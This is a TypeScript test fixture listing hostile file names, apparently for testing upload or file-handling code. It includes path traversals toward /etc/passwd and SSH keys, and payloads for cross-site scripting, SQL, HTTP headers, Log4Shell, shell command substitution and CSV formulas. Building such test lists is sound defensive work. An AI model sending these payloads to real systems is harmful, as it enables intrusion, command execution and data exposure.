/** Names that somebody may give a file so that something else happens than that a file has a name. */
export const HOSTILE_NAMES: readonly string[] = [
  ...traversals(),
  ...devices(),
  ...unseen(),
  ...markup(),
  ...broken(),
  ...long(),
];

function traversals(): string[] {
  const targets = ["etc/passwd", "incoming/x", "objects/00/x"];
  const ups = [
    "../",
    "..\\",
    "....//",
    "..././",
    "%2e%2e%2f",
    "%2e%2e/",
    "..%2f",
    "%252e%252e%252f",
    "..%c0%af",
    "..%ef%bc%8f",
    "\uFF0E\uFF0E\uFF0F",
    "..\u2215",
    "..\u2044",
    "..\u29F8",
    "..\uFF3C",
    "..\u0000/",
    "..;/",
    "./../",
  ];
  return [
    ...ups.flatMap((up) => targets.map((target) => up.repeat(6) + target)),
    "/etc/passwd",
    "\\\\server\\share\\file",
    "C:\\Windows\\System32\\drivers\\etc\\hosts",
    "C:file.txt",
    "file:///etc/passwd",
    "//etc/passwd",
    "~/.ssh/authorized_keys",
    "~root",
    "folder/",
    "folder\\",
    "/",
    "\\",
    "//",
    ".",
    "..",
    "...",
    ". .",
    " .. ",
    "..\u200B",
    "\u202E..",
    ".htaccess",
    ".env",
    "a/b/c/d/e.txt",
    "a\\b/c\\d.txt",
  ];
}

function devices(): string[] {
  const names = ["CON", "PRN", "AUX", "NUL", "COM1", "LPT9", "CONIN$", "CLOCK$"];
  return names.flatMap((name) => [
    name,
    `${name}.txt`,
    `${name.toLowerCase()}.tar.gz`,
    `${name}.`,
    `${name} `,
  ]);
}

function unseen(): string[] {
  const letters = [
    "\u0000",
    "\u0001",
    "\u0007",
    "\b",
    "\t",
    "\n",
    "\r",
    "\r\n",
    "\u001B[31m",
    "\u007F",
    "\u0085",
    "\u00A0",
    "\u00AD",
    "\u061C",
    "\u180E",
    "\u200B",
    "\u200E",
    "\u200F",
    "\u2028",
    "\u2029",
    "\u202A",
    "\u202D",
    "\u202E",
    "\u2060",
    "\u2066",
    "\u2067",
    "\u2069",
    "\uFEFF",
    "\uFFF9",
    "\uFFFD",
    "\u{E0001}",
    "\u{F0000}",
    "\uE000",
  ];
  return letters.flatMap((letter) => [`annexe${letter}gpj.exe`, letter, `${letter}name.txt${letter}`]);
}

function markup(): string[] {
  return [
    '"><script>alert(1)</script>.html',
    "<img src=x onerror=alert(1)>.png",
    "'; drop table files; --.txt",
    '"; filename="other.exe',
    "name.txt; filename*=UTF-8''evil.exe",
    "a\r\nSet-Cookie: evil=1\r\n\r\nbody",
    "a\nContent-Type: text/html",
    "${jndi:ldap://evil}.txt",
    "$(reboot).txt",
    "`reboot`.txt",
    "|reboot",
    "name.txt\u0000.png",
    "name%00.png",
    "{{7*7}}.txt",
    "=cmd|' /C calc'!A0.csv",
    "%s%s%s%n.txt",
    "file.php.jpg",
    "file.jpg::$DATA",
    "file.asp;.jpg",
    "-rf",
    "--help",
    "*",
    "?.txt",
    "a'b\"c\\d%e.txt",
    "__proto__",
    "constructor",
    "null",
    "undefined",
  ];
}

/** What is no well-formed text; some ways of sending a name cannot say it. */
function broken(): string[] {
  return [
    "\uD800.txt",
    "\uDC00.txt",
    "a\uD83Db.txt",
    "e\u0301".repeat(50),
    "\u0301".repeat(300),
    "👩🏽‍❤️‍💋‍👨🏽".repeat(40),
  ];
}

function long(): string[] {
  return [
    "",
    " ",
    "a".repeat(255),
    "a".repeat(256),
    `${"a".repeat(10_000)}.txt`,
    `${"𝕏".repeat(10_000)}.txt`,
    `a.${"b".repeat(10_000)}`,
    "/".repeat(10_000),
    ".".repeat(10_000),
    " ".repeat(10_000),
    "../".repeat(3_000),
    "\u202E".repeat(10_000),
  ];
}
